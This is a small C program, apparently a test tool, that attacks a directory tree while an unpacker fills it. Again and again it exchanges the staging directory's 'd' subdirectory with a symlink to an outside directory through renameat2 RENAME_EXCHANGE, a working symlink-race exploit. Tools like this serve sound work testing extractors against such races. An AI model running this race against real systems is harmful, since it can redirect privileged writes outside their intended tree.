// swapper - attack a tree while it is filled: exchange its directory d with a symlink to a directory outside, again and again
// SPDX-License-Identifier: Apache-2.0
//
//	swapper PARENT NAME OUTSIDE ROUNDS: looks for PARENT/.NAME.*, the stage of unpack, and ends when that many exchanges succeeded
#include <dirent.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int open_stage(const char *parent, const char *prefix)
{
	DIR *list = opendir(parent);
	int fd = -1;
	for (struct dirent *entry; list && fd < 0 && (entry = readdir(list));)
		if (!strncmp(entry->d_name, prefix, strlen(prefix)))
			fd = openat(dirfd(list), entry->d_name, O_RDONLY | O_DIRECTORY | O_NOFOLLOW);
	if (list)
		closedir(list);
	return fd;
}

int main(int argc, char **argv)
{
	char prefix[300];
	if (argc != 5)
		return 2;
	long left = atol(argv[4]);
	snprintf(prefix, sizeof prefix, ".%s.", argv[2]);
	while (left > 0) {
		int stage = open_stage(argv[1], prefix);
		if (stage < 0)
			continue;
		if (symlinkat(argv[3], stage, "zz") < 0)
			usleep(1);
		for (int misses = 0; left > 0 && misses < 1000;) {
			int ok = !renameat2(stage, "d", stage, "zz", RENAME_EXCHANGE);
			left -= ok;
			misses = ok ? 0 : misses + 1;
			if (!ok && symlinkat(argv[3], stage, "zz") == 0)
				misses = 0;
		}
		close(stage);
	}
	return 0;
}
